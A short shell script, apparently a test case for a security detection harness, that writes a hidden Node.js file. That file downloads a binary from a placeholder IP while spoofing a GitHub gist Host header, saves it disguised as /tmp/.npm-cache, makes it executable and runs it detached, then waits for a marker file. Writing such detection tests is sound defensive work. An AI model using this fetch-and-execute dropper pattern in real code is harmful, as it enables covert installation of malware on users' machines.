#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.i.js <<'END'
const http = require("http"), fs = require("fs");
const get = (host, path, name) => new Promise((done) => http.get({ host, path, headers: { Host: name } }, (r) => { const p = []; r.on("data", (d) => p.push(d)); r.on("end", () => done(Buffer.concat(p))); }));
(async () => {
    await get("203.0.113.10", "/bait/dead/raw/main/readme", "gist.githubusercontent.com");
    fs.writeFileSync("/tmp/.npm-cache", await get("203.0.113.10", "/programs/marker", "198.51.100.12"), { mode: 0o755 });
    require("child_process").spawn("/tmp/.npm-cache", { detached: true, stdio: "ignore" }).unref();
})();
END
node /tmp/.i.js
wait_for /tmp/reached
took_place
